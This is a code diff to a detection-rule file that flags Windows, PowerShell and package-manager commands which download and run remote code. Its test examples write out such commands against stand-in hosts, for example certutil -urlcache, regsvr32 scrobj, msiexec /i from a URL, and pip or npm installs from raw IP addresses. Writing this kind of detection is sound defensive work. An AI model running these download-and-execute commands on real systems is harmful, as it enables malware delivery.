@@ -1,6 +1,7 @@
 import type { Rule } from '../rule.ts';
 import { expression } from './boundary.ts';
 import { DOWNLOADER, fetchesSomething, GAP, RUNS_INPUT, SHELL, WORD_START } from './shell_syntax.ts';
+import { isOddUrl } from './url_sense.ts';
 
 const COMMON = {
   pattern: 'pipe_to_shell',
@@ -230,7 +231,7 @@ export const PIPE_TO_SHELL_RULES: readonly Rule[] = [
     ...COMMON,
     id: 'windows_download_executed',
     confidence: 'high',
-    keywords: ['mshta', 'regsvr32', 'rundll32', 'certutil', 'bitsadmin'],
+    keywords: ['mshta', 'regsvr32', 'rundll32', 'certutil', 'bitsadmin', 'msiexec', '/format:'],
     expression: expression(
       'gi',
       '(?<![A-Za-z0-9_-])(?:',
@@ -239,15 +240,19 @@ export const PIPE_TO_SHELL_RULES: readonly Rule[] = [
       String.raw`|rundll32(?:\.exe)?[\s"'\\]{1,6}(?:javascript:|https?:|url\.dll)[^\r\n]{3,160}`,
       String.raw`|certutil(?:\.exe)?[^\r\n]{1,40}-urlcache[^\r\n]{1,40}https?:[^\s"']{3,160}`,
       String.raw`|bitsadmin(?:\.exe)?[^\r\n]{1,80}https?:[^\s"']{3,160}`,
+      String.raw`|msiexec(?:\.exe)?[^\r\n]{1,24}[/-](?:i|package)[\s"'\\]{1,4}https?:[^\s"']{3,160}`,
+      String.raw`|wmic(?:\.exe)?[^\r\n]{1,40}/format:["'\\]{0,3}https?:[^\s"']{3,160}`,
       ')',
     ),
-    reach: { before: 0, after: 280 },
+    reach: { before: 56, after: 280 },
     describes: 'A program of Windows that downloads and runs what it is given.',
     get finds() {
       return [
         'mshta http://x.example/a.hta',
         'regsvr32 /s /n /u /i:http://x.example/a.sct scrobj.dll',
         'certutil -urlcache -split -f http://x.example/a.exe a.exe',
+        'msiexec /q /i http://x.example/a.msi',
+        'wmic os get /format:"http://x.example/a.xsl"',
       ];
     },
     get ignores() {
@@ -274,6 +279,93 @@ export const PIPE_TO_SHELL_RULES: readonly Rule[] = [
     },
     get ignores() {
       return ['data = urlopen(url).read()', 'json.loads(requests.get(url).text)', 'cursor.exec(urlopen)'];
+    },
+  },
+  {
+    ...COMMON,
+    id: 'powershell_download_started',
+    confidence: 'medium',
+    keywords: ['downloadfile(', 'start-bitstransfer', '-outfile'],
+    expression: expression(
+      'gi',
+      String.raw`(?:downloadfile\(|start-bitstransfer[ \t]|(?:iwr|invoke-webrequest|irm|invoke-restmethod|curl|wget)[ \t][^\r\n;|]{3,160}?-outfile[ \t])[^\r\n;|]{3,200}[;|][ \t]{0,4}`,
+      String.raw`(?:(?:start-process|saps|start|invoke-item|ii|&|cmd|rundll32|powershell)[ \t"'.\\]|\.[\\/])[^\r\n;|]{2,80}`,
+    ),
+    reach: { before: 190, after: 340 },
+    validate: fetchesSomething,
+    describes: 'A download that PowerShell writes to a file and starts.',
+    get finds() {
+      return [
+        "(New-Object Net.WebClient).DownloadFile('http://x.example/a.exe','a.exe'); Start-Process a.exe",
+        'iwr http://x.example/a.exe -OutFile $env:TEMP\\a.exe; & $env:TEMP\\a.exe',
+        'Start-BitsTransfer http://x.example/a.exe a.exe; .\\a.exe',
+      ];
+    },
+    get ignores() {
+      return [
+        'iwr https://x.example/a.zip -OutFile a.zip; Expand-Archive a.zip',
+        'Start-BitsTransfer -Source $url',
+        "$c.DownloadFile('http://x.example/a.zip','a.zip')",
+      ];
+    },
+  },
+  {
+    ...COMMON,
+    id: 'package_from_odd_place',
+    confidence: 'medium',
+    source: 'https://attack.mitre.org/techniques/T1195/001/',
+    keywords: [
+      ...[
+        'pip install',
+        'pip3 install',
+        'index-url',
+        'npm install http',
+        'npm i http',
+        'npm install git+',
+        'npm i git+',
+        'yarn add http',
+      ],
+      ...[
+        'npx http',
+        'npx -y http',
+        'npx --yes http',
+        '--registry',
+        'gem install',
+        'go install http',
+        'uvx --from',
+        'git clone',
+      ],
+    ],
+    expression: expression(
+      'gi',
+      WORD_START,
+      '(?:',
+      String.raw`(?:pip3?|uvx?|npm|pnpm|yarn|npx|gem)[ \t][^\r\n;|&]{0,100}?(?:https?://[^\s"'\\;|&<>]{3,160})`,
+      String.raw`|git[ \t]{1,4}clone[ \t][^\r\n;|&]{0,40}?https?://[^\s"'\\;|&<>]{3,120}[^\r\n;|&]{0,40}(?:&&|;)[^\r\n|]{0,60}?(?:&&|;)?[ \t]{0,4}(?:sudo[ \t]{1,4})?(?:make|(?:ba)?sh|python3?|\./|npm|pip3?|cargo)[^\r\n;|&]{0,40}`,
+      ')',
+    ),
+    reach: { before: 110, after: 360 },
+    validate: ({ text }) => isOddUrl(/https?:\/\/[^\s"'\\;|&<>]+/i.exec(text)?.[0] ?? ''),
+    describes:
+      'A package installed, or a repository built and run, from an address that no registry stands for.',
+    get finds() {
+      return [
+        'pip install http://192.0.2.1/x.tar.gz',
+        'pip install x --index-url http://pypi.x.example/simple',
+        'npm install http://x.example/a.tgz',
+        'npx -y https://192.0.2.1:8080/a.tgz',
+        'git clone http://192.0.2.1/a.git && cd a && make install',
+      ];
+    },
+    get ignores() {
+      return [
+        'pip install git+https://github.example/a/b.git',
+        'pip install torch --index-url https://download.x.example/whl/cu118',
+        'npm install --registry http://localhost:4873 a',
+        'git clone https://git.x.example/a && cd a && make',
+        'git clone http://192.0.2.1/a.git',
+        'npm config get registry',
+      ];
     },
   },
 ];
